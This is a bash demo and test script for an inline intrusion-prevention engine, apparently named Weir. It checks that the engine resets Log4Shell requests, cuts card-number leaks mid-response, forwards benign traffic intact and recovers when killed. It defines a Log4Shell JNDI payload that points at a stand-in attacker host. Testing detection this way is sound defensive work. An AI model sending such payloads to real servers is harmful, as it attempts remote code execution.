# shellcheck shell=bash
# The job on a wire: curl -- weir -- nginx, each in a network namespace of its own.
# Sourced by run.sh.

# shellcheck disable=SC2016 # The braces are for Log4j to expand.
attack='${jndi:ldap://evil.example/a}'
demo_inline() {
    lab_up "weir-demo-$$"
    lab_mount_bpffs
    site_up "$dir/site"
    engine_write_config "$dir/weir.toml" "$dir/eve.json"
    make_pages
    section "Without Weir: a bridge between curl and nginx"
    without_weir
    section "With Weir between them"
    if ! start_engine "$dir/engine.log"; then
        [[ $engine_exit -eq 77 ]] || { cat "$dir/engine.log"; exit 1; }
        not_inline "$(tail -n1 "$dir/engine.log")"
        return
    fi
    section "What means no harm passes, byte for byte"
    benign
    section "An attack: Log4Shell"
    attacks
    section "A leak: card numbers in a response"
    leak
    section "What Weir says of it"
    engine_end TERM
    check_equal "weir run ends at SIGTERM" "$engine_exit" 0
    check_not "and takes its program off both ports" lab_has_xdp
    verdicts
    counters
    section "The engine is killed in mid-download"
    kill_test
    takeover
    detach_test
}

make_pages() {
    local pages=$dir/site/pages
    text_of 8000 >"$pages/index.html"
    head -c 50000000 /dev/urandom >"$pages/download.bin"
    page_with 120000 "$no_card" "$no_card" >"$pages/invoice.txt"
}

without_weir() {
    fetch "$dir/got" "http://$server_v4/?x=$attack"
    check "the Log4Shell request reaches nginx" site_logged jndi
    # A segment is to end in the middle of the first number.
    fetch "$dir/got" "http://$server_v4/invoice.txt"
    card_offset=$(offset_split_at 120000 8 "$curl_header_bytes" "$segment_bytes_v4")
    page_with "$card_offset" "$card" "$other_card" >"$dir/site/pages/cards.txt"
    fetch "$dir/got" "http://$server_v4/cards.txt"
    check "the page with card numbers arrives in full" cmp -s "$dir/got" "$dir/site/pages/cards.txt"
    : >"$dir/site/access.log"
}

start_engine() {
    engine_up "$dir/weir.toml" "$1" || return
    ok "weir run is ready, with a pinned program on both ports"
    check "the program is attached" lab_has_xdp
    check "checksum offload is on at both ends: Weir completes what the kernel leaves partial" offload_is_on
}

offload_is_on() {
    in_ns client ethtool -k to-server | grep '^tx-checksumming: on' >/dev/null &&
        in_ns server ethtool -k to-client | grep '^tx-checksumming: on' >/dev/null
}

benign() {
    local host
    for host in "$server_v4" "[$server_v6]"; do
        arrives "$host" index.html
        arrives "$host" download.bin
        arrives "$host" invoice.txt
    done
}

# arrives HOST PAGE: the page arrives as it is, by its SHA-256.
arrives() {
    local sent got
    sent=$(sha256 "$dir/site/pages/$2")
    fetch "$dir/got" "http://$1/$2"
    got=$(sha256 "$dir/got")
    check_equal "$2 from $1: $(stat -c %s "$dir/got") bytes in $curl_seconds s, sha256 ${got:0:12}…" "$got" "$sent"
}

attacks() {
    fetch "$dir/got" "http://$server_v4/?before"
    local requests
    check "nginx saw the request before" site_logged '?before'
    requests=$(wc -l <"$dir/site/access.log")
    is_reset "in the URL" "http://$server_v4/?x=$attack"
    is_reset "in a header" "http://$server_v4/" -A "$attack"
    is_reset "in the URL, over IPv6" "http://[$server_v6]/?x=$attack"
    fetch "$dir/got" "http://$server_v4/?after"
    check "nginx saw the request after" site_logged '?after'
    check_equal "nginx never saw one of the attacks" "$(site_saw jndi)" 0
    check_equal "nginx saw nothing else" "$(wc -l <"$dir/site/access.log")" "$((requests + 1))"
}

# is_reset WHERE URL [ARGUMENT...]: the client is told at once, by a reset (curl's 56), rather than left waiting.
is_reset() {
    local where=$1
    shift
    fetch "$dir/got" "$@"
    check_equal "Log4Shell $where: connection reset by peer, after $curl_seconds s" "$curl_exit" 56
    # A client that is left waiting notices after minutes.
    awk -v took="$curl_seconds" 'BEGIN { exit took >= 2 }' || fail "that is not at once"
}

leak() {
    fetch "$dir/cards" "http://$server_v4/cards.txt"
    check_equal "the response is cut by a reset" "$curl_exit" 56
    local bytes digits
    bytes=$(stat -c %s "$dir/cards" 2>/dev/null || echo 0)
    digits=$((bytes > card_offset ? bytes - card_offset : 0))
    check "the client holds the first $bytes bytes of the page" \
        cmp -s -n "$bytes" "$dir/cards" "$dir/site/pages/cards.txt"
    check "that is $digits of the 16 digits of the first number" \
        test "$bytes" -gt 100000 -a "$digits" -lt 16
    check_not "no card number is in the client's file" grep -qE "$card|$other_card" "$dir/cards"
}

verdicts() {
    "$weir" verdicts "$dir/eve.json" | tee "$dir/verdicts.txt"
    check "Log4Shell in http.uri" verdict_line log4shell http.uri
    check "Log4Shell in http.headers" verdict_line log4shell http.headers
    check "a card number in http.response.body" verdict_line card http.response.body
    check_not "no card number stands there, nor in the events, unmasked" \
        grep -qE "$card|$other_card" "$dir/verdicts.txt" "$dir/eve.json"
}

# verdict_line RULE FIELD: one row of the table names both.
verdict_line() { grep -i -- "$1" "$dir/verdicts.txt" | grep -F -- "$2" >/dev/null; }

# Every frame that came in went out, or was dropped for a reason that is counted.
counters() {
    local stats
    stats=$(jq -c 'select(.event_type == "stats") | .stats' "$dir/eve.json" | tail -n1)
    check "$(jq -r '"\(.decoder.pkts) frames in = \(.ips.accepted) forwarded + \(.ips.drop_reason | add) dropped"' <<<"$stats")" \
        holds '.decoder.pkts > 0 and .decoder.pkts == .ips.accepted + (.ips.drop_reason | add)' "$stats"
    check "what the rules stopped is among the drops" holds '.ips.drop_reason.rule >= 4' "$stats"
    check "each reset went to both ends" \
        holds '.ips.resets >= 4 and .ips.injected == 2 * .ips.resets and .ips.injections_failed == 0' "$stats"
    check "partial checksums were completed" holds '.decoder.checksums_completed > 0' "$stats"
    check "no event was lost" holds '.events_lost == 0' "$stats"
}

# With on_engine_loss = "forward" the bridge takes over, unchecked, until an engine is back.
kill_test() {
    local sent
    sent=$(sha256 "$dir/site/pages/download.bin")
    engine_up "$dir/weir.toml" "$dir/engine.log" || { cat "$dir/engine.log"; exit 1; }
    download_start
    engine_end KILL
    check_equal "SIGKILL ended the engine, with the download at $(stat -c %s "$dir/download") bytes" "$engine_exit" 137
    fetch "$dir/got" "http://$server_v4/?unchecked=$attack"
    check "on_engine_loss = \"forward\": the bridge passes all there is, unchecked" site_logged '?unchecked'
    check "the download completes" wait "$download_pid"
    check_equal "its sha256 is ${sent:0:12}…" "$(sha256 "$dir/download")" "$sent"
    check "the program is still attached" lab_has_xdp
}

takeover() {
    engine_up "$dir/weir.toml" "$dir/engine.log" || { cat "$dir/engine.log"; exit 1; }
    ok "a new engine took the pinned program over"
    is_reset "after the restart" "http://$server_v4/?restarted=$attack"
    fetch "$dir/got" "http://$server_v4/?again"
    check "nginx saw the request after it" site_logged '?again'
    check_equal "nginx did not see the attack" "$(site_saw '?restarted')" 0
}

# What a killed engine leaves attached is for the operator to take off.
detach_test() {
    engine_end KILL
    check "weir detach succeeds" engine_detach
    check_not "nothing is attached any more" lab_has_xdp
}

# Starts a download that takes some seconds, and comes back when it is well under way.
download_start() {
    nsenter --net="$(lab_netns client)" curl -qs --noproxy '*' --max-time 60 --limit-rate 12M \
        -o "$dir/download" "http://$server_v4/download.bin" &
    download_pid=$!
    lab_children+=("$download_pid")
    local _
    for _ in {1..100}; do
        [[ $(stat -c %s "$dir/download" 2>/dev/null || echo 0) -lt 5000000 ]] || return 0
        sleep 0.1
    done
    fail "the download did not get under way"
}
